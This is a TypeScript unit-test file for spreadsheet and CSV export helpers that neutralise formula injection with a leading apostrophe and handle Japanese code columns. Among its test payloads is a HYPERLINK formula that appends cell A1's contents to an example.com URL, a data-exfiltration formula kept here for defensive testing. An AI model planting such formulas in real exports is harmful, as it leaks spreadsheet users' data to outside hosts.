import { describe, expect, it } from 'vitest';
import { FORMULA_PAYLOADS as SUPPORT_PAYLOADS } from '../../test/support/formula-payloads.ts';
import { codeColumnsOf, csvText, isExcelEncoding, neutralizeText, readSpreadsheetCell, spreadsheetCell, spreadsheetRows } from './spreadsheet-cells.ts';

/** The export tests' payloads, plus one more formula that spreadsheets run. */
const FORMULA_PAYLOADS: readonly string[] = [...SUPPORT_PAYLOADS, '=HYPERLINK("http://example.com/?"&A1,"詳細")'];

describe('neutralizeText', () => {
  it.each(FORMULA_PAYLOADS)('%j gets a leading apostrophe', (p) => {
    expect(neutralizeText(p)).toBe(`'${p}`);
  });

  it.each(['札幌市', '2030年度', 'FY2017', 'a=b', '1-2', ' =1', "it's", "'plain", '', '△5', '#REF'])('%j is left alone', (s) => {
    expect(neutralizeText(s)).toBe(s);
  });

  it('a text already starting with apostrophes before a trigger gets one more, so reading is exact', () => {
    expect(neutralizeText("'=1")).toBe("''=1");
    expect(neutralizeText("''+1")).toBe("'''+1");
  });
});

describe('readSpreadsheetCell: the readers take exactly the neutralising apostrophe off', () => {
  it.each([...FORMULA_PAYLOADS, "'=1", "''-5", "'plain", "'", "''", 'x', '', '="abc"', '=1+1', "'＝"])('%j round-trips', (s) => {
    expect(readSpreadsheetCell(neutralizeText(s))).toBe(s);
  });

  it('reads Excel text formulas of digits as the digits', () => {
    expect(readSpreadsheetCell('="011002"')).toBe('011002');
    expect(readSpreadsheetCell('="000000"')).toBe('000000');
    // only digits: anything else inside stays as written (it would be a formula)
    expect(readSpreadsheetCell('="a"&B1')).toBe('="a"&B1');
    expect(readSpreadsheetCell('=""011002""')).toBe('=""011002""');
  });

  it("an apostrophe before a non-trigger character is the user's text", () => {
    expect(readSpreadsheetCell("'011002")).toBe("'011002");
    expect(readSpreadsheetCell("'abc")).toBe("'abc");
  });
});

describe('spreadsheetCell', () => {
  it('numbers stay numbers, negative ones too', () => {
    expect(spreadsheetCell(-5, { excel: true })).toBe(-5);
    expect(spreadsheetCell(-0.25, { excel: false, code: true })).toBe(-0.25);
    expect(spreadsheetCell(0, { excel: true })).toBe(0);
  });

  it('null and undefined are empty; other values are text', () => {
    expect(spreadsheetCell(null, { excel: true })).toBe('');
    expect(spreadsheetCell(undefined, { excel: true })).toBe('');
    expect(spreadsheetCell(true, { excel: true })).toBe('true');
  });

  it('codes become ="…" only in code columns of Excel files, and only when they are digits', () => {
    expect(spreadsheetCell('011002', { excel: true, code: true })).toBe('="011002"');
    expect(spreadsheetCell('011002', { excel: false, code: true })).toBe('011002');
    expect(spreadsheetCell('011002', { excel: true })).toBe('011002');
    expect(spreadsheetCell('=1+1', { excel: true, code: true })).toBe("'=1+1");
    expect(spreadsheetCell('', { excel: true, code: true })).toBe('');
  });

  it('spreadsheetRows leaves the header of a code column alone', () => {
    expect(
      spreadsheetRows(
        [
          ['団体コード', '値'],
          ['011002', -3],
          ['=x', '+y'],
        ],
        { excel: true, codeColumns: [0] },
      ),
    ).toEqual([
      ['団体コード', '値'],
      ['="011002"', -3],
      ["'=x", "'+y"],
    ]);
  });

  it('isExcelEncoding and codeColumnsOf', () => {
    expect([isExcelEncoding('utf8'), isExcelEncoding('utf8-bom'), isExcelEncoding('sjis')]).toEqual([false, true, true]);
    expect(codeColumnsOf(['順位', '団体コード', '団体名', 'area_code', 3])).toEqual([1, 3]);
  });
});

describe('csvText', () => {
  it('quotes commas, quotes and every kind of line break; CRLF records', () => {
    expect(
      csvText([
        ['a,b', 'say "hi"', 'x\ny', 'x\ry', 1.5, -2],
        ['="011002"', "'=1", ''],
      ]),
    ).toBe('"a,b","say ""hi""","x\ny","x\ry",1.5,-2\r\n"=""011002""",\'=1,\r\n');
  });

  it('an empty row is an empty line', () => {
    expect(csvText([['a'], [], ['b']])).toBe('a\r\n\r\nb\r\n');
  });
});
